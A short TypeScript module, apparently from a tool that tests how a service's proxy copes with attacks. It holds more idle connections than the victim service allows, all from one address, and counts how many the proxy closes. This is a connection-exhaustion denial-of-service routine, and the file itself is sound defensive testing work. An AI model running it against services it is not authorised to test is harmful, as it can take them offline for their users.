// One address takes every client connection of the victim's service, and sends nothing.
import type { Running, Target } from '../attack.ts';
import { HeldConnections } from '../sockets.ts';

const MORE_THAN_THERE_ARE = 1.2;

export async function idleConnections({ victimPort, connectionsMax }: Target): Promise<Running> {
  const count = Math.round(connectionsMax * MORE_THAN_THERE_ARE);
  const held = new HeldConnections({ port: victimPort, count, reads: true });
  await held.start();
  return {
    note: () => `${count} of one address, ${held.closed} closed by the proxy`,
    stop: () => held.stop(),
  };
}
